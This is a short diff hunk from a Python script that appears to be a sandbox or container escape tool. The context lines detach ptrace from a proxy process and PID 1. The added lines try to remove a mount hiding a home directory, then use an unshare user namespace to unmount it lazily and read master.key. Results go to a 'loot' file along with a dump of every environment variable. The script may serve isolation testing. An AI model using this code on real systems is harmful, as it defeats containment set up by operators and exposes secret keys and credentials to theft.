@@ -104,6 +104,15 @@ for pid in (PROXY_PID, 1):
         os.waitpid(pid, getattr(os, "__WALL", 0x40000000))
         libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
 
+if home:  # undo the cover: directly, then from a user namespace of the child's own
+    result = libc.umount2(home.encode(), 2)  # MNT_DETACH
+    report["umount"] = "unmounted" if result == 0 else f"failed: {os.strerror(ctypes.get_errno())}"
+    nested = subprocess.run(
+        ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", f"umount -l {home}; cat {home}/master.key"],
+        capture_output=True,
+    )
+    grab("nested namespace", nested.stdout + nested.stderr)
+
 grab("environment", json.dumps(dict(os.environ)))
 loot.close()
 Path("report.json").write_text(json.dumps(report, indent=1))
